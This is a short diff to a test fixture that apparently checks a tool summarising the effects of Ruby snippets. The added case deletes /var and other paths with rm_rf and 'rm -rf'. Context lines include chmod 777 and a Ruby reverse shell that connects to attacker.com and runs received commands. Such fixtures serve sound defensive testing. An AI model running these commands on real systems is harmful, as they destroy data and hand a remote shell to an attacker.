@@ -75,6 +75,10 @@ const ruby: Rows = [
     ['program rm -r -- /var', 'delete /a', 'delete /b', 'program chmod 777 -- /c'],
   ],
   [
+    'include FileUtils; rm_rf "/var"; rm ["/a"], verbose: true; system("rm -rf /b")',
+    ['program rm -r -- /var', 'delete /a', 'line rm -rf /b'],
+  ],
+  [
     'c=TCPSocket.new("attacker.com",12345);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
     ['connect attacker.com', 'line …'],
   ],
